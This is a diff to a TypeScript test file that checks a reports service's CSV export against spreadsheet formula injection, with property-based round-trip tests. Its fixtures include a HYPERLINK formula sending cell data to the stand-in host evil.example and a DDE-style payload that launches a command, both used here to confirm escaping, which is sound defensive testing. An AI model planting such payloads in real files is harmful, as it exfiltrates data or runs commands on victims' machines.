@@ -1,12 +1,14 @@
 // The bulk import and export on both databases: what loads, what is refused
 // and why, and that loading twice changes nothing.
 import { Readable } from 'node:stream';
-import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import fc from 'fast-check';
+import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
 import { findSummary } from '../src/accounts/accounts.repository.ts';
 import { ManualClock } from '../src/shared/clock.ts';
 import { ImportFileError, type RowProblem } from '../src/reports/import.csv.ts';
 import { importReports, type ImportSummary } from '../src/reports/import.service.ts';
 import { exportReportsCsv } from '../src/reports/export.service.ts';
+import { readCsvRecords } from '../src/reports/csv-records.ts';
 import { createTestDatabase, dialects, type TestDatabase } from './support/databases.ts';
 import { seedReports } from './support/factories.ts';
 
@@ -373,6 +375,169 @@ for (const dialect of dialects) {
       } finally {
         await copy.close();
       }
+    });
+  });
+}
+
+/** What a spreadsheet runs when a cell begins with it (OWASP), and the full-width forms. */
+const formulaStarts = ['=', '+', '-', '@', '\t', '\r', '＝', '＋', '－', '＠'];
+
+/** Any characters, with formula starts, apostrophes and CSV syntax made frequent. */
+const textUnit = fc.oneof(
+  fc.constantFrom('=', '+', '-', '@', '＝', '＋', '－', '＠', "'", '"', ',', ' ', '|', '!'),
+  fc.string({ unit: 'binary', minLength: 1, maxLength: 1 }),
+);
+/** What the import refuses in a source id or a holder name. */
+const refusedText = /[\p{Cc}\p{Cf}<>\uFFFD]/gu;
+/** Source ids and holder names as the import stores them (trimmed; names with spaces folded). */
+const sourceIds = fc
+  .string({ unit: textUnit, minLength: 1, maxLength: 40 })
+  .map((s) => s.replace(refusedText, '').trim())
+  .filter((s) => s !== '');
+const holderNames = fc
+  .string({ unit: textUnit, minLength: 1, maxLength: 60 })
+  .map((s) => s.replace(refusedText, '').replace(/\s+/g, ' ').trim())
+  .filter((s) => s !== '');
+
+interface Exported {
+  readonly source_id: string | null;
+  readonly holder_name: string | null;
+}
+
+async function importedRows(t: TestDatabase): Promise<Exported[]> {
+  return t.database.db
+    .selectFrom('reports')
+    .select(['source_id', 'holder_name'])
+    .where('source', '=', 'import')
+    .orderBy('source_id')
+    .execute();
+}
+
+/** Every cell of a CSV text, as written (nothing undone). */
+async function cellsOf(text: string): Promise<string[]> {
+  const cells: string[] = [];
+  const input = Readable.from([Buffer.from(text)]);
+  for await (const record of readCsvRecords(input, { maxRecordSize: 16 * 1024 })) {
+    cells.push(...record.fields);
+  }
+  return cells;
+}
+
+function sortedBySourceId(rows: readonly Exported[]): Exported[] {
+  return [...rows].sort((a, b) => ((a.source_id ?? '') < (b.source_id ?? '') ? -1 : 1));
+}
+
+for (const dialect of dialects) {
+  describe(`export to a spreadsheet and back on ${dialect}`, () => {
+    let source: TestDatabase;
+    let target: TestDatabase;
+    beforeAll(async () => {
+      [source, target] = await Promise.all([
+        createTestDatabase(dialect),
+        createTestDatabase(dialect),
+      ]);
+    });
+    afterAll(async () => {
+      await Promise.all([source?.close(), target?.close()]);
+    });
+    beforeEach(async () => {
+      for (const t of [source, target]) await t.database.db.deleteFrom('reports').execute();
+    });
+
+    it('writes no cell a spreadsheet would run, and the import reads back what was stored', async () => {
+      const formula = '=HYPERLINK("http://evil.example/?d="&A1,"Klik di sini")';
+      await seedReports(source.database, [
+        { provider: '014', number: '1111111111', holderName: formula },
+        {
+          provider: '014',
+          number: '1111111112',
+          source: 'import',
+          sourceId: '-1',
+          holderName: '+62 812 3456 7890',
+        },
+        {
+          provider: '014',
+          number: '1111111113',
+          source: 'import',
+          sourceId: "@SUM(1+1)*cmd|' /C calc'!A0",
+          holderName: "'=x",
+        },
+        {
+          provider: '014',
+          number: '1111111114',
+          source: 'import',
+          sourceId: '+62',
+          holderName: '＝1+1',
+        },
+        {
+          provider: '014',
+          number: '1111111115',
+          source: 'import',
+          sourceId: "'quoted",
+          holderName: "'",
+        },
+      ]);
+      const text = await exported(source);
+      expect(text).toContain(`"'${formula.replaceAll('"', '""')}"`);
+      expect(text).toContain(
+        `'-1,014,1111111112,online_shopping_fraud,2026-01-15T08:00:00Z,'+62 812 3456 7890\n`,
+      );
+      for (const cell of await cellsOf(text)) {
+        expect(formulaStarts, cell).not.toContain(cell.charAt(0));
+      }
+
+      const { summary, problems } = await load(target, text);
+      expect(problems).toEqual([]);
+      expect(summary.loaded).toBe(5);
+      const publicId = (await importedRows(target)).find((r) => r.source_id?.startsWith('cekrek-'));
+      expect(publicId?.holder_name).toBe(formula);
+      expect(await importedRows(target)).toEqual(
+        expect.arrayContaining([
+          { source_id: '-1', holder_name: '+62 812 3456 7890' },
+          { source_id: "@SUM(1+1)*cmd|' /C calc'!A0", holder_name: "'=x" },
+          { source_id: '+62', holder_name: '＝1+1' },
+          { source_id: "'quoted", holder_name: "'" },
+        ]),
+      );
+    });
+
+    it('round-trips any source id and holder name through export and import', async () => {
+      const rows = fc.uniqueArray(
+        fc.record({ sourceId: sourceIds, holderName: fc.option(holderNames) }),
+        {
+          selector: (r) => r.sourceId,
+          minLength: 1,
+          maxLength: 4,
+        },
+      );
+      await fc.assert(
+        fc.asyncProperty(rows, async (generated) => {
+          for (const t of [source, target]) await t.database.db.deleteFrom('reports').execute();
+          await seedReports(
+            source.database,
+            generated.map((row, i) => ({
+              provider: '014',
+              number: `22222222${i}0`,
+              source: 'import' as const,
+              sourceId: row.sourceId,
+              ...(row.holderName === null ? {} : { holderName: row.holderName }),
+            })),
+          );
+          const text = await exported(source);
+          for (const cell of await cellsOf(text)) {
+            expect(formulaStarts, cell).not.toContain(cell.charAt(0));
+          }
+          const { summary, problems } = await load(target, text);
+          expect(problems).toEqual([]);
+          expect(summary.loaded).toBe(generated.length);
+          expect(sortedBySourceId(await importedRows(target))).toEqual(
+            sortedBySourceId(
+              generated.map((r) => ({ source_id: r.sourceId, holder_name: r.holderName })),
+            ),
+          );
+        }),
+        { numRuns: 40 },
+      );
     });
   });
 }
